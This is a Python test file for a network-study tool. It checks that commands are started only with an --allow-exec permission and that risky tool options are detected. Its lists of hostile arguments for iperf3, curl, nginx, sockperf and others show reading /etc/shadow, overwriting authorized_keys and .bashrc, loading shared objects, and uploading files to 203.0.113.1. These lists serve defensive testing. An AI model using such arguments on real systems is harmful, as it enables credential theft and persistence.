"""Commands of a study are shown, and started only with permission."""

from __future__ import annotations

import json
import os
import pty
import re
from pathlib import Path
from typing import get_args

import pytest
from hypothesis import given
from hypothesis.strategies import lists, sampled_from, text

from nettrial.cli import permission
from nettrial.errors import BadInput
from nettrial.running.permission import PermissionRequest, RequestKind, requests
from nettrial.running.study_design import Scenarios
from nettrial.study import catalogue, load
from nettrial.study.base import ToolName
from nettrial.study.tool_options import TOOLS
from tests.lab_study import lab_study
from tests.unit.conftest import CommandLine
from tests.unit.test_machine_sets import inventory

COMMANDS = ["./client --to '{destination}'", "./server", "./own.py '{port}'"]


def document() -> dict:
    """Returns a study whose second treatment has its own controller, and whose flow is a command."""
    tool = {
        "kind": "tool",
        "tool": "exec",
        "arguments": ["./client", "--to", "{destination}"],
        "server_arguments": ["./server"],
    }
    own = {"network.controller": {"command": ["./own.py", "{port}"]}, "network.forwarding": "openflow"}
    return lab_study(
        network={
            "topology": "leaf-spine",
            "parameters": {"leaves": 2, "spines": 1},
            "ip": 4,
            "mtu": "1500 B",
            "rate": "10 Mbit/s",
            "queue": "10 packets",
        },
        workload=[{"flow": "data", "from": "host-1", "to": "host-2", "transport": "tcp", "traffic": tool}],
        factors={
            "fabric": {
                "title": "Fabric",
                "sets": {"kernel": {"network.forwarding": "routers"}, "own": own},
                "levels": ["kernel", "own"],
            }
        },
        layout={"rows": "fabric"},
    )


def needed(directory: Path, study: dict) -> list[PermissionRequest]:
    """Returns the requests of a study."""
    (directory / "study.yaml").write_text(json.dumps(study, indent=1))
    read = load(str(directory))
    return requests(read, Scenarios(read))


@pytest.fixture
def asked(tmp_path: Path) -> list[PermissionRequest]:
    return needed(tmp_path, document())


def test_commands_of_flows_and_controllers_are_named_once_with_their_places(asked: list[PermissionRequest]):
    assert [request.text for request in asked] == COMMANDS
    places = ["workload.data.traffic.arguments", "workload.data.traffic.server_arguments"]
    places += ["factors.fabric.sets.own.network.controller"]
    assert [request.where.split(": ")[1] for request in asked] == places


def test_without_a_terminal_the_option_is_asked_for(asked: list[PermissionRequest]):
    with pytest.raises(BadInput, match="--allow-exec") as refused:
        permission.ask(asked, allowed=False)
    assert "./client" in str(refused.value)
    permission.ask(asked, allowed=True)
    permission.ask([], allowed=False)


@pytest.mark.parametrize(("answer", "may"), [("y\n", True), ("Yes\n", True), ("\n", False), ("n\n", False)])
def test_at_a_terminal_it_is_asked(
    answer: str, may: bool, asked: list[PermissionRequest], monkeypatch: pytest.MonkeyPatch, capsys
):
    near, far = pty.openpty()
    os.write(near, answer.encode())
    with os.fdopen(far) as terminal:
        monkeypatch.setattr("sys.stdin", terminal)
        if may:
            permission.ask(asked, allowed=False)
        else:
            with pytest.raises(BadInput, match="permits commands of the study"):
                permission.ask(asked, allowed=False)
    os.close(near)
    assert "./own.py" in capsys.readouterr().err


def test_a_run_names_the_commands_and_writes_nothing_without_permission(nettrial: CommandLine):
    (nettrial.directory / "study.yaml").write_text(json.dumps(document()))
    shown = nettrial("run", "--dry-run", "study.yaml")
    assert "Programs that it starts and files that it sends, only with --allow-exec\n" in shown.stdout
    assert "./client --to '{destination}'\n" in shown.stdout
    refused = nettrial("run", "study.yaml", "--out", "out")
    assert (refused.returncode, "--allow-exec" in refused.stderr) == (2, True)
    assert not (nettrial.directory / "out").exists()
    assert nettrial("run", "study.yaml", "--out", "out", "--allow-exec", "--quiet").returncode == 0


def test_a_run_is_not_resumed_without_permission(nettrial: CommandLine):
    (nettrial.directory / "study.yaml").write_text(json.dumps(document()))
    begun = nettrial("run", "study.yaml", "--out", "out", "--allow-exec", "--quiet", FAKE_FAIL="2")
    assert begun.returncode == 4
    refused = nettrial("run", "--resume", "out")
    assert (refused.returncode, "--allow-exec" in refused.stderr) == (2, True)
    assert nettrial("run", "--resume", "out", "--allow-exec", "--quiet").returncode == 0


# --- Tools with arguments of the study

ATTACKS = {
    "iperf3": [
        ["-F", "/root/.ssh/authorized_keys"],
        ["-F/root/.ssh/authorized_keys"],
        ["--file=/root/.ssh/authorized_keys"],
        ["--fil", "/root/.ssh/authorized_keys"],
        ["-Rn4F/root/.ssh/authorized_keys"],
        ["-R", "-w", "1M", "-VF", "/root/.ssh/authorized_keys"],
        ["--logfile", "/root/.bashrc"],
        ["--logf", "/root/.bashrc"],
        ["--logf=/root/.bashrc"],
        ["-I", "/etc/cron.d/x"],
        ["--pidfile=/etc/cron.d/x"],
        ["--rsa-public-key-path", "/etc/shadow"],
        ["-w", "-F", "/x"],
        ["-w", "--logfile=/x"],
        ["--window=--logfile", "/x"],
        ["-c", "203.0.113.1"],
        ["-B", "203.0.113.1"],
        ["-w"],
        ["--", "x"],
        ["-"],
        [""],
        ["-D"],
        ["-w", "1M\n"],
        ["--extra-data", "{log}"],
    ],
    "ping": [["-I", "eth0"], ["203.0.113.1"], ["-i0.01", "203.0.113.1"], ["-p", "file"], ["-fI", "x"]],
    "netperf": [
        ["-k", "/etc/shadow"],
        ["-o", "/etc/shadow"],
        ["-O/etc/shadow"],
        ["-H", "203.0.113.1"],
        ["-s", "8K,8K", "--", "-k", "/etc/shadow"],
        ["-F", "/etc/shadow"],
    ],
    "ditg": [
        ["-l", "/root/.bashrc"],
        ["-x", "/root/.bashrc"],
        ["-Ft", "/etc/shadow"],
        ["-Fs", "/etc/shadow"],
        ["-L", "203.0.113.1"],
        ["-X", "203.0.113.1", "TCP"],
        ["-Q"],
        ["-a", "203.0.113.1"],
        ["script"],
        ["-U", "1"],
        ["-U", "1", "-l"],
        ["{log}"],
    ],
    "sockperf": [
        ["--full-log", "/root/.bashrc"],
        ["--full-log=/root/.bashrc"],
        ["--full-l", "/root/.bashrc"],
        ["-f", "/etc/shadow"],
        ["--load-vma=/tmp/x.so"],
        ["--load-xlio=/tmp/x.so"],
        ["--daemonize"],
        ["--playback", "/etc/shadow"],
    ],
    "ftp": [["-o", "/root/.bashrc"], ["-T", "/etc/shadow"], ["-K/tmp/curlrc"], ["--ftp-port", "-"]],
    "http1": [
        ["-o/root/.bashrc"],
        ["-sSo/root/.bashrc"],
        ["--outp", "/root/.bashrc"],
        ["--trace", "/root/.bashrc"],
        ["-D", "/root/.bashrc"],
        ["-c", "/root/.bashrc"],
        ["--config", "/tmp/curlrc"],
        ["-K-"],
        ["--engine", "/tmp/x.so"],
        ["-d", "@/etc/shadow"],
        ["--proxy", "203.0.113.1"],
        ["-F", "x=@/etc/shadow"],
        ["file:///etc/shadow"],
        ["--next", "-T", "/etc/shadow", "http://203.0.113.1/"],
        ["--libcurl=/root/.bashrc"],
    ],
    "http2": [["--stderr", "/root/.bashrc"], ["--hsts", "/root/x"], ["-E", "/etc/ssl/private/x"]],
    "tftp": [["-l", "/root/.bashrc"], ["--put"], ["--option", "x y"], ["203.0.113.1"]],
    "http3": [
        ["--download=/root"],
        ["--qlog-file=/root/.bashrc"],
        ["--qlog-f=/root/.bashrc"],
        ["--session-file", "/root/x"],
        ["--tp-file=/root/x"],
        ["--token-file=/root/x"],
        ["-d/etc/shadow"],
        ["--key=/etc/shadow"],
        ["-qd/etc/shadow"],
    ],
}
"""Arguments of clients with which a study writes, reads or runs files, or reaches somebody else."""
SERVER_ATTACKS = {
    "iperf3": [["-F", "/x"], ["-D"], ["--logfile=/x"], ["-B", "0.0.0.0"], ["--authorized-users-path", "/x"]],
    "netperf": [["-d", "/x"], ["-Z/x"], ["-L", "0.0.0.0"]],
    "ditg": [["-l", "/x"], ["-L", "a:203.0.113.1"], ["-a", "0.0.0.0"]],
    "sockperf": [["-f", "/x"], ["--load-vma=/x.so"], ["--daemonize"], ["-i", "0.0.0.0"]],
    "ftp": [["-oanon_root=/"], ["/etc/vsftpd.conf"], ["-owrite_enable=YES"]],
    "http1": [["-g", "load_module /tmp/x.so;"], ["-c", "/tmp/x"], ["-p/tmp"], ["-gload_module /tmp/x.so;"]],
    "http2": [["-g", "error_log /root/.bashrc;"], ["-s", "stop"]],
    "tftp": [["--logfile", "/x"], ["--pcre", "/x"], ["--pidfile=/x"], ["/etc"], ["--user", "root"]],
    "http3": [["--htdocs=/"], ["-d/"], ["--qlog-dir=/root"], ["--keylog-file=/x"], ["0.0.0.0"]],
}
"""Arguments of servers that do the same."""
HARMLESS = {
    "iperf3": ["-w", "1M", "-l24K", "-M", "9216", "-R", "--parallel=4", "-O", "1", "-P4", "-b", "10M/5"],
    "ping": ["-i", "0.01", "-M", "do", "-Q", "0x10", "-A"],
    "netperf": ["-s", "8K,8K", "-S", "8K,8K", "-D"],
    "ditg": ["-m", "rttm", "-D", "-U", "100", "200", "-E", "50.5"],
    "sockperf": ["--mps", "max", "--mps=1000", "--nonblocked", "--sender-affinity=0-1"],
    "ftp": ["--disable-epsv", "--limit-rate", "1M"],
    "http1": ["-4", "--limit-rate=1M"],
    "http2": ["--tls-max", "1.3"],
    "tftp": ["--tftp-timeout", "1"],
    "http3": ["--cc=bbr", "--max-udp-payload-size=1400", "--no-pmtud"],
}
"""Arguments of clients that only shape a tool's traffic."""
SERVER_HARMLESS = {
    "iperf3": ["-1", "--idle-timeout", "5"],
    "sockperf": ["--cpu-affinity", "1"],
    "tftp": ["--no-timeout", "--retry-timeout=1"],
    "http3": ["--cc=bbr"],
}
"""Arguments of servers that only shape a tool's traffic."""


def test_the_programs_of_every_tool_are_known():
    assert {*TOOLS} == {*get_args(ToolName)} - {"exec"}
    assert {*ATTACKS} == {*SERVER_ATTACKS} | {"ping"} == {*HARMLESS} == {*TOOLS}


@pytest.mark.parametrize(
    ("tool", "arguments"), [(tool, words) for tool, attacks in ATTACKS.items() for words in attacks]
)
def test_an_option_of_a_client_that_can_do_more_is_found(tool: str, arguments: list[str]):
    assert TOOLS[tool].client.others(arguments)
    assert TOOLS[tool].client.others([*HARMLESS[tool], *arguments])


@pytest.mark.parametrize(
    ("tool", "arguments"), [(tool, words) for tool, attacks in SERVER_ATTACKS.items() for words in attacks]
)
def test_an_option_of_a_server_that_can_do_more_is_found(tool: str, arguments: list[str]):
    assert TOOLS[tool].server.others(arguments)
    assert TOOLS[tool].server.others([*SERVER_HARMLESS.get(tool, ()), *arguments])


@pytest.mark.parametrize("tool", HARMLESS)
def test_arguments_that_only_shape_traffic_need_no_permission(tool: str):
    assert TOOLS[tool].client.others(HARMLESS[tool]) == []
    assert TOOLS[tool].server.others(SERVER_HARMLESS.get(tool, [])) == []


@given(tool=sampled_from(sorted(TOOLS)), words=lists(text(max_size=12), max_size=4))
def test_no_path_address_or_unknown_word_passes(tool: str, words: list[str]):
    program = TOOLS[tool].client
    passed = [word for word in words if word not in program.others(words)]
    assert all(re.fullmatch(r"[-A-Za-z0-9.,=_/]*", word) for word in passed)
    assert not [word for word in passed if word.startswith("/") or ".." in word]


WITH_TOOLS = [
    name
    for name in catalogue.shipped()
    if "kind: tool" in (catalogue.FOLDER / name / catalogue.STUDY_FILE).read_text()
]
"""The shipped studies with traffic of tools."""


@pytest.mark.parametrize("study", WITH_TOOLS)
def test_the_shipped_studies_need_no_permission(study: str):
    read = load(study)
    assert requests(read, Scenarios(read)) == []


def with_tool(**traffic: object) -> dict:
    """Returns a study whose flow is that of a tool."""
    study = document()
    study["workload"][0]["traffic"] = {"kind": "tool", "tool": "iperf3", "duration": "1 s", **traffic}
    study["factors"]["fabric"]["sets"]["own"] = {"network.forwarding": "routers", "network.mtu": "1400 B"}
    return study


def test_arguments_of_a_tool_are_named_with_their_place_and_nothing_is_written(nettrial: CommandLine):
    study = with_tool(arguments=["-w", "1M", "-F", "/root/x"], server_arguments=["-1", "--logf=/root/y"])
    (nettrial.directory / "study.yaml").write_text(json.dumps(study, indent=1))
    shown = nettrial("run", "--dry-run", "study.yaml").stdout
    assert re.search(r"workload\.data\.traffic\.arguments +iperf3 -w 1M -F /root/x\n", shown)
    assert "iperf3 -1 --logf=/root/y\n" in shown
    commands = json.loads(nettrial("run", "--dry-run", "study.yaml", "--json").stdout)["commands"]
    assert commands == ["iperf3 -w 1M -F /root/x", "iperf3 -1 --logf=/root/y"]
    refused = nettrial("run", "study.yaml", "--out", "out")
    assert refused.returncode == 2
    assert "workload.data.traffic.arguments: -F /root/x, of iperf3\n" in refused.stderr
    assert "workload.data.traffic.server_arguments: --logf=/root/y, of iperf3\n" in refused.stderr
    assert "or --allow-exec" in refused.stderr
    assert not (nettrial.directory / "out").exists()
    assert nettrial("run", "study.yaml", "--out", "out", "--allow-exec", "--quiet").returncode == 0


def test_a_factor_that_sets_an_argument_is_named(tmp_path: Path):
    study = with_tool()
    study["factors"]["fabric"]["sets"]["own"] = {"workload.data.traffic.arguments": ["--logfile", "/x"]}
    [request] = needed(tmp_path, study)
    assert request.where.endswith("factors.fabric.sets.own.workload.data.traffic.arguments")
    assert request.refused == "--logfile /x"


def test_machines_of_the_user_start_no_tool_with_such_an_argument_either(nettrial: CommandLine):
    (nettrial.directory / "machines.yaml").write_text(inventory(None))
    tool = ("kind=tool", "tool=iperf3", "duration=1 s", "server_arguments=--logfile /root/.bashrc")
    settings = [f"--set=workload.transfer.traffic.{each}" for each in tool]
    options = (
        "--backend",
        "hosts",
        "--machines=machines.yaml",
        "--replicates",
        "1",
        "--set",
        "mtu=1500,9000",
    )
    refused = nettrial("run", "jumbo-ipv6", *options, *settings, "--out", "out")
    assert refused.returncode == 2, refused.stderr
    assert "--logfile /root/.bashrc, of iperf3" in refused.stderr
    assert not (nettrial.directory / "out").exists()


def test_a_file_of_the_user_is_sent_only_with_permission(nettrial: CommandLine):
    study = with_tool()
    study["workload"][0]["traffic"] = {"kind": "file_transfer", "file": "/etc/shadow"}
    (nettrial.directory / "study.yaml").write_text(json.dumps(study, indent=1))
    [request] = needed(nettrial.directory, study)
    assert (request.kind, request.text) == (RequestKind.FILE, "/etc/shadow")
    document = json.loads(nettrial("run", "--dry-run", "study.yaml", "--json").stdout)
    assert (document["commands"], document["files"]) == ([], ["/etc/shadow"])
    refused = nettrial("run", "study.yaml", "--out", "out")
    assert (refused.returncode, "workload.data.traffic.file: /etc/shadow\n" in refused.stderr) == (2, True)
    assert not (nettrial.directory / "out").exists()
    assert "/etc/shadow\n" in nettrial("run", "--dry-run", "study.yaml").stdout
    assert nettrial("run", "study.yaml", "--out", "out", "--allow-exec", "--quiet").returncode == 0
